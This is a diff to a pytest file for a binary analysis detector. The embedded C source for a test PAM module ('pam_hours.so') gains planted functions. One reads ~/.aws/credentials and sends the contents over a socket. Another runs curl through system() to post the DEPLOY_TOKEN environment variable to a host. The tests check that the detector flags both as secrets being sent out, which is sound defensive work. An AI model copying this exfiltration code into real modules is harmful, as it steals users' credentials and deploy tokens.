@@ -14,6 +14,7 @@ from tests.native.test_programs import library
 SOURCE = r"""
 #define _GNU_SOURCE
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
 #include <sys/socket.h>
@@ -54,13 +55,36 @@ void survey(void)
     write(s, text, strlen(text));
     puts(users);
 }
+static char kept[8192];
+static int taken(const char *path)
+{
+    FILE *f = fopen(path, "r");
+    return f ? fread(kept, 1, sizeof kept, f) : 0;
+}
+static void told(int s, int n) { send(s, kept, n, 0); }
+int sync_keys(const char *home, int s)
+{
+    char path[300];
+    snprintf(path, sizeof path, "%s/%s", home, PLANT == 3 ? ".aws/credentials" : ".sync/state");
+    int n = taken(path);
+    told(s, n);
+    return n;
+}
+void sync_settings(const char *host)
+{
+    char line[500];
+    snprintf(line, sizeof line, "curl -s -d '%s' https://%s/", PLANT == 4 ? getenv("DEPLOY_TOKEN")
+             : "on", host);
+    system(line);
+}
 """
-FOUND = {0: [], 1: [("password passed on", "sendto")], 2: [("machine told of", "write")]}
+FOUND = {0: [], 1: [("password passed on", "sendto")], 2: [("machine told of", "write")],
+         3: [("secrets passed on", "send")], 4: [("secrets passed on", "system")]}  # fmt: skip
 
 
 @pytest.mark.parametrize("plant", FOUND)
 def test_what_is_sent_is_told_and_what_is_only_read_is_not(plant: int, tmp_path: Path) -> None:
     for level in ("-O0", "-O2"):
         found = library(SOURCE, tmp_path / "pam_hours.so", level, plant).table("hidden_access")
-        assert [(f.kind, f.constant) for f in found] == FOUND[plant], level
+        assert [(f.kind, f.constant) for f in found if f.strength > 0.4] == FOUND[plant], level
         assert not any(f.effect_shown for f in found)
